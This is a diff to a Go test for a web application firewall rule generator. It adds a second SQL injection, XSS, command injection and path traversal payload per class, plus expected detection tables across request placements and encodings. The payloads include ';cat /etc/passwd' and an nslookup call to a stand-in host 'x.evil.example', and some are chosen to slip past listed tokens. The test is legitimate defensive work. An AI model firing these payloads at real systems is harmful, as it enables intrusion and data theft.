@@ -23,11 +23,17 @@ import (
 //
 // Print the table with CFPLANE_PLACEMENT_TABLE=1 go test -run TestPlacementEncodingTable -v ./pkg/wafsynth.
 
-var placementPayloads = []struct{ class, payload string }{
-	{ClassSQLi, "1' UNION SELECT username,password FROM users-- -"},
-	{ClassXSS, "<svg/onload=alert(document.domain)>"},
-	{ClassRCE, ";cat /etc/passwd"},
-	{ClassLFI, "../../../../etc/passwd"},
+// The second payload of each class avoids the tokens base64Tokens lists,
+// so its base64 columns show what decode_base64 alone reaches.
+var placementPayloads = []struct{ key, class, payload string }{
+	{ClassSQLi, ClassSQLi, "1' UNION SELECT username,password FROM users-- -"},
+	{ClassXSS, ClassXSS, "<svg/onload=alert(document.domain)>"},
+	{ClassRCE, ClassRCE, ";cat /etc/passwd"},
+	{ClassLFI, ClassLFI, "../../../../etc/passwd"},
+	{ClassSQLi + "2", ClassSQLi, "1 AND extractvalue(1,concat(0x7e,version()))"},
+	{ClassXSS + "2", ClassXSS, "<details open ontoggle=print()>"},
+	{ClassRCE + "2", ClassRCE, "|nslookup -q=txt x.evil.example"},
+	{ClassLFI + "2", ClassLFI, "....//....//etc/hosts"},
 }
 
 // encodings turn a payload into what the client writes; the placement then
@@ -178,7 +184,7 @@ func placementTable(t *testing.T, plan rules.Plan) map[string]map[string]string 
 	progs := classPrograms(t, plan)
 	out := map[string]map[string]string{}
 	for _, p := range placementPayloads {
-		out[p.class] = map[string]string{}
+		out[p.key] = map[string]string{}
 		for _, pl := range placements {
 			var row strings.Builder
 			for _, e := range placementEncodings {
@@ -192,7 +198,7 @@ func placementTable(t *testing.T, plan rules.Plan) map[string]map[string]string 
 					row.WriteByte('.')
 				}
 			}
-			out[p.class][pl.name] = row.String()
+			out[p.key][pl.name] = row.String()
 		}
 	}
 	return out
@@ -277,6 +283,62 @@ var placementWant = map[rules.Plan]map[string]map[string]string{
 			"xml":        "............",
 			"raw":        "............",
 		},
+		ClassSQLi + "2": {
+			"path":       "+++.......++",
+			"query":      "+++.......++",
+			"user-agent": "............",
+			"referer":    "............",
+			"x-header":   "............",
+			"cookie":     "............",
+			"form":       "............",
+			"multipart":  "............",
+			"filename":   "............",
+			"json":       "............",
+			"xml":        "............",
+			"raw":        "............",
+		},
+		ClassXSS + "2": {
+			"path":       "............",
+			"query":      "............",
+			"user-agent": "............",
+			"referer":    "............",
+			"x-header":   "............",
+			"cookie":     "............",
+			"form":       "............",
+			"multipart":  "............",
+			"filename":   "............",
+			"json":       "............",
+			"xml":        "............",
+			"raw":        "............",
+		},
+		ClassRCE + "2": {
+			"path":       "............",
+			"query":      "............",
+			"user-agent": "............",
+			"referer":    "............",
+			"x-header":   "............",
+			"cookie":     "............",
+			"form":       "............",
+			"multipart":  "............",
+			"filename":   "............",
+			"json":       "............",
+			"xml":        "............",
+			"raw":        "............",
+		},
+		ClassLFI + "2": {
+			"path":       "+++.......++",
+			"query":      "+++.......++",
+			"user-agent": "............",
+			"referer":    "............",
+			"x-header":   "............",
+			"cookie":     "............",
+			"form":       "............",
+			"multipart":  "............",
+			"filename":   "............",
+			"json":       "............",
+			"xml":        "............",
+			"raw":        "............",
+		},
 	},
 	rules.PlanBusiness: {
 		ClassSQLi: {
@@ -328,6 +390,62 @@ var placementWant = map[rules.Plan]map[string]map[string]string{
 			"referer":    "++++++...+++",
 			"x-header":   "+++++....+++",
 			"cookie":     "++++++...+++",
+			"form":       "............",
+			"multipart":  "............",
+			"filename":   "............",
+			"json":       "............",
+			"xml":        "............",
+			"raw":        "............",
+		},
+		ClassSQLi + "2": {
+			"path":       "+++..+....++",
+			"query":      "++++++....++",
+			"user-agent": "+++..+....++",
+			"referer":    "+++..+....++",
+			"x-header":   "+++.......++",
+			"cookie":     "+++..+....++",
+			"form":       "............",
+			"multipart":  "............",
+			"filename":   "............",
+			"json":       "............",
+			"xml":        "............",
+			"raw":        "............",
+		},
+		ClassXSS + "2": {
+			"path":       "+++..+++++++",
+			"query":      "++++++++++++",
+			"user-agent": "+++..+++++++",
+			"referer":    "+++..+++++++",
+			"x-header":   "+++......+++",
+			"cookie":     "+++..+++++++",
+			"form":       "............",
+			"multipart":  "............",
+			"filename":   "............",
+			"json":       "............",
+			"xml":        "............",
+			"raw":        "............",
+		},
+		ClassRCE + "2": {
+			"path":       "+++..++++.++",
+			"query":      "+++++++++.++",
+			"user-agent": "+++..++++.++",
+			"referer":    "+++..++++.++",
+			"x-header":   "+++...+++.++",
+			"cookie":     "+++..++++.++",
+			"form":       "............",
+			"multipart":  "............",
+			"filename":   "............",
+			"json":       "............",
+			"xml":        "............",
+			"raw":        "............",
+		},
+		ClassLFI + "2": {
+			"path":       "+++..+...+++",
+			"query":      "++++++...+++",
+			"user-agent": "+++..+...+++",
+			"referer":    "+++..+...+++",
+			"x-header":   "+++......+++",
+			"cookie":     "+++..+...+++",
 			"form":       "............",
 			"multipart":  "............",
 			"filename":   "............",
@@ -393,6 +511,62 @@ var placementWant = map[rules.Plan]map[string]map[string]string{
 			"xml":        "++++++...+++",
 			"raw":        "++++++...+++",
 		},
+		ClassSQLi + "2": {
+			"path":       "+++..+....++",
+			"query":      "++++++....++",
+			"user-agent": "+++..+....++",
+			"referer":    "+++..+....++",
+			"x-header":   "+++.......++",
+			"cookie":     "+++..+....++",
+			"form":       "+++..+....++",
+			"multipart":  "+++..++++.++",
+			"filename":   "+++..+....++",
+			"json":       "+++..+....++",
+			"xml":        "+++..+....++",
+			"raw":        "++++++....++",
+		},
+		ClassXSS + "2": {
+			"path":       "+++..+++++++",
+			"query":      "++++++++++++",
+			"user-agent": "+++..+++++++",
+			"referer":    "+++..+++++++",
+			"x-header":   "+++......+++",
+			"cookie":     "+++..+++++++",
+			"form":       "+++..+++++++",
+			"multipart":  "+++..+++++++",
+			"filename":   "+++..+++++++",
+			"json":       "+++..+++++++",
+			"xml":        "++++++++++++",
+			"raw":        "++++++++++++",
+		},
+		ClassRCE + "2": {
+			"path":       "+++..++++.++",
+			"query":      "+++++++++.++",
+			"user-agent": "+++..++++.++",
+			"referer":    "+++..++++.++",
+			"x-header":   "+++...+++.++",
+			"cookie":     "+++..++++.++",
+			"form":       "+++..++++.++",
+			"multipart":  "+++..++++.++",
+			"filename":   "+++..++++.++",
+			"json":       "+++..++++.++",
+			"xml":        "+++..++++.++",
+			"raw":        "+++++++++.++",
+		},
+		ClassLFI + "2": {
+			"path":       "+++..+...+++",
+			"query":      "++++++...+++",
+			"user-agent": "+++..+...+++",
+			"referer":    "+++..+...+++",
+			"x-header":   "+++......+++",
+			"cookie":     "+++..+...+++",
+			"form":       "+++..+...+++",
+			"multipart":  "+++..+...+++",
+			"filename":   "+++..+...+++",
+			"json":       "+++..+...+++",
+			"xml":        "+++..+...+++",
+			"raw":        "++++++...+++",
+		},
 	},
 }
 
@@ -406,8 +580,8 @@ func TestPlacementEncodingTable(t *testing.T) {
 		show := os.Getenv("CFPLANE_PLACEMENT_TABLE") != ""
 		for _, p := range placementPayloads {
 			for _, pl := range placements {
-				want := placementWant[plan][p.class][pl.name]
-				if g := got[p.class][pl.name]; g != want {
+				want := placementWant[plan][p.key][pl.name]
+				if g := got[p.key][pl.name]; g != want {
 					show = true
 					for i := range g {
 						if i < len(want) && g[i] != want[i] {
@@ -421,7 +595,7 @@ func TestPlacementEncodingTable(t *testing.T) {
 			fmt.Printf("== %s (encodings: %s)\n", plan, strings.Join(hdr, " "))
 			for _, p := range placementPayloads {
 				for _, pl := range placements {
-					fmt.Printf("%s\t%-10s\t%s\n", p.class, pl.name, got[p.class][pl.name])
+					fmt.Printf("%s\t%-10s\t%s\n", p.key, pl.name, got[p.key][pl.name])
 				}
 			}
 		}
